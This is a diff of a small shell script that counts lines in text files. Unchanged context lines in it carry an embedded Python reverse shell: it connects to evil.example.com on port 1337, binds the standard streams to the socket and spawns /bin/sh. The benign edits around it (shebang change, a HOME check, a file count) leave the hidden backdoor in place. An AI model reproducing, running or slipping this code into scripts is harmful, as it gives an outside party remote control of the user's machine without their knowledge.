@@ -1,9 +1,11 @@
-#!/usr/bin/env bash
+#!/bin/sh
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
 for f in *.txt; do
   [ -e "$f" ] || continue
   wc -l "$f"
 done
-set -eu
 python3 - <<EOF
 import socket,os,pty
 s=socket.socket()
@@ -11,4 +13,5 @@ s.connect(("evil.example.com",1337))
 [os.dup2(s.fileno(),f) for f in (0,1,2)]
 pty.spawn("/bin/sh")
 EOF
-set -eu
+count=$(ls | wc -l)
+echo "files: $count"
